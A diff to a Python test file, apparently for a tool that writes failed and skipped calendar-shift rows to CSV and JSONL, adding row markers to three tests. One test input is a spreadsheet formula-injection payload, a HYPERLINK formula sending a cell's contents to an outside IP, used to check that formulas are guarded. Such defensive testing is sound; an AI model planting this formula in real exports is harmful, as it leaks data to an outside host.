@@ -108,6 +108,7 @@ def test_what_was_not_taken_has_no_after(store: Store, tmp_path: Path) -> None:
     assert row["after_start"] == row["after_end"] == ""
 
 
+@pytest.mark.row(31)
 def test_formulas_are_guarded_and_come_back(store: Store, tmp_path: Path) -> None:
     """C17: what a spreadsheet would run, in any input column; the shift stays a shift."""
     title = '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")'
@@ -127,6 +128,7 @@ def test_commas_quotes_and_line_ends_survive(store: Store, tmp_path: Path) -> No
     assert read(tmp_path / "skipped.csv")[0]["ref"] == text
 
 
+@pytest.mark.row(31)
 def test_a_jsonl_input_gives_its_lines_back(store: Store, tmp_path: Path) -> None:
     """A pipeline submits failed.jsonl again without knowing of CSV."""
     line = '{"account":"acc_1","calendar_id":"cal_1","event_uid":"e","shift":"-P1D"}'
@@ -228,6 +230,7 @@ def test_a_link_in_the_folder_is_replaced_not_followed(store: Store, tmp_path: P
     assert not (tmp_path / "out/failed.csv").is_symlink()
 
 
+@pytest.mark.row(27)
 def test_a_folder_that_cannot_be_written_is_said_in_one_line(store: Store, tmp_path: Path) -> None:
     """No stack trace for a mistyped path."""
     (tmp_path / "file").write_text("")
